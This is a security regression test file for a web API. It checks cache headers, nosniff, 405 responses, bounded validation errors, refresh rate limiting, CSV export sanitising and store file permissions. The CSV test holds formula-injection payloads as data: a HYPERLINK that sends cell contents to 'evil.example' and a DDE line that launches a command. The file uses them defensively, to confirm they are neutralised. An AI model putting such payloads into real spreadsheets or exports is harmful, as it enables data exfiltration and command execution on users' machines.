/**
 * The smaller holes found by the outside attack, kept beside the OWASP tests: secrets never cached,
 * no content sniffing, 405 says what is allowed, a validation error of bounded size, refresh limited per IP, CSV
 * exports that carry no formula, and a store file only Quarry's own user can read.
 */
import { existsSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createKey, fromIp, registerUser } from '../support/factories.js';
import { grantPlan } from '../support/operator.js';
import { startTestServer, type TestServer } from '../support/test-server.js';

let t: TestServer;
beforeAll(async () => (t = await startTestServer()));
afterEach(() => t.assertContract());
afterAll(() => t.stop());

describe('answers that hold a token or a secret key', () => {
  it('when a session or a key secret is returned, then Cache-Control: no-store; other answers are not marked', async () => {
    const user = await registerUser(t.client);
    const ip = fromIp();
    const answers = {
      register: await t.client.post('/api/v1/auth/register', { email: `cache-${Date.now()}@example.com`, password: 'correct-horse-42', name: 'C' }, fromIp()),
      login: await t.client.post('/api/v1/auth/login', { email: user.email, password: user.password }, ip),
      refresh: await t.client.post('/api/v1/auth/refresh', { refreshToken: user.refreshToken }, ip),
      setup: await t.client.post('/api/v1/management/setup', undefined, { token: user.token }),
      createKey: await t.client.post('/api/v1/keys', { name: 'secret' }, { token: user.token }),
    };
    const keyId = answers.createKey.body.data.apiKey.id;
    const more = {
      regenerate: await t.client.post(`/api/v1/keys/${keyId}/regenerate`, undefined, { token: user.token }),
      changePassword: await t.client.post('/api/v1/auth/change-password', { currentPassword: user.password, newPassword: 'battery-staple-77' }, { token: user.token }),
    };
    for (const [name, res] of Object.entries({ ...answers, ...more })) {
      expect(res.status, name).toBeLessThan(300);
      expect(res.headers.get('cache-control'), name).toBe('no-store');
    }
    const listing = await t.client.get('/api/v1/keys', { token: more.changePassword.body.data.token });
    expect(listing.headers.get('cache-control')).toBeNull();
  });
});

describe('response headers', () => {
  it('when any answer is sent (success, error, unknown route, HTML page), then X-Content-Type-Options: nosniff', async () => {
    for (const res of [await t.client.get('/health'), await t.client.get('/api/v1/keys'), await t.client.get('/api/v1/nothing'), await t.client.get('/docs')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('when a method is not allowed on a path, then 405 with Allow naming the methods it takes', async () => {
    const res = await t.client.delete('/api/v1/auth/profile');
    expect(res.status).toBe(405);
    expect(res.headers.get('allow')).toBe('GET, PUT');
    expect(res.body.error).toMatchObject({ code: 'METHOD_NOT_ALLOWED', details: { allowed: ['GET', 'PUT'] } });
    expect((await t.client.request('PATCH', '/api/v1/keys/key_x')).headers.get('allow')).toBe('PUT, DELETE');
  });
});

describe('API4 a body of tens of thousands of unknown fields, unauthenticated', () => {
  it('when register gets 1 MB of 95,554 unknown fields, then 400 lists 20 problems and counts the rest, in a small answer', async () => {
    const fields = Array.from({ length: 95_554 }, (_, i) => `"f${i}":1`).join(',');
    const raw = `{"email":"a@b.co","password":"correct-horse-42","name":"x",${fields}}`;
    expect(raw.length).toBeLessThanOrEqual(1_048_576);
    const started = performance.now();
    const res = await t.client.post('/api/v1/auth/register', undefined, { raw, headers: { 'content-type': 'application/json', ...fromIp().headers } });
    const ms = performance.now() - started;
    expect(res.status).toBe(400);
    expect(res.body.error.details.errors).toHaveLength(20);
    expect(res.body.error.details.omittedErrors).toBe(95_554 - 20);
    const size = JSON.stringify(res.body).length;
    expect(size).toBeLessThan(10_000);
    console.info(`validation bound: ${raw.length} bytes of ${95_554} unknown fields answered with ${size} bytes in ${ms.toFixed(0)} ms`);
  });
});

describe('API4 refresh from one address', () => {
  it('when one client IP sends a 61st refresh within the hour, then 429 with the limit headers; another IP is unaffected', async () => {
    const ip = fromIp();
    const statuses: number[] = [];
    let last;
    for (let i = 0; i < 61; i += 1) {
      last = await t.client.post('/api/v1/auth/refresh', { refreshToken: `not.a.token${i}` }, ip);
      statuses.push(last.status);
    }
    expect(statuses.slice(0, 60).every((s) => s === 401)).toBe(true);
    expect(statuses[60]).toBe(429);
    expect(last!.body.error.code).toBe('RATE_LIMIT_EXCEEDED');
    expect(last!.headers.get('x-ratelimit-limit')).toBe('60');
    expect(last!.headers.get('x-ratelimit-tier')).toBe('anonymous');
    expect((await t.client.post('/api/v1/auth/refresh', { refreshToken: 'not.a.token' }, fromIp())).status).toBe(401);
  });
});

describe('CSV exports', () => {
  it('when searched queries start like a formula, then the export writes them as text (a leading quote), never as a formula', async () => {
    const user = await registerUser(t.client);
    await grantPlan(t, user, 'enterprise');
    await createKey(t.client, user, { rateLimitTier: 'enterprise' });
    const queries = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tformula', '\rcarriage', 'plain words'];
    for (const query of queries) {
      t.server.services.searchRecorder.record({ userId: user.id, keyId: null, query, searchMode: 'natural', databases: [], tables: [], resultCount: 1, responseTimeMs: 5, status: 'ok', unindexedTables: null, createdAt: new Date() });
    }
    const res = await t.client.get('/api/v1/analytics/export?format=csv&metrics=query', { token: user.token });
    expect(res.status).toBe(200);
    const cells = (res.body as string).split('\r\n').slice(1, -1).sort();
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
      `'+cmd|' /C calc'!A0`,
      `'-2+3`,
      `'@SUM(A1:A9)`,
      `'\tformula`,
      `"'\rcarriage"`,
      'plain words',
    ].sort());
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('the embedded store file', () => {
  it.skipIf(process.env.QUARRY_TEST_STORE === 'postgres')('when the server creates its SQLite store, then the file and its journal are readable by Quarry\'s own user only (0600)', async () => {
    await registerUser(t.client); // a write, so the journal exists too
    const files = ['quarry.sqlite', 'quarry.sqlite-wal', 'quarry.sqlite-shm'].filter((file) => existsSync(join(t.dataDir, file)));
    expect(files).toContain('quarry.sqlite');
    for (const file of files) expect((statSync(join(t.dataDir, file)).mode & 0o777).toString(8), file).toBe('600');
  });
});
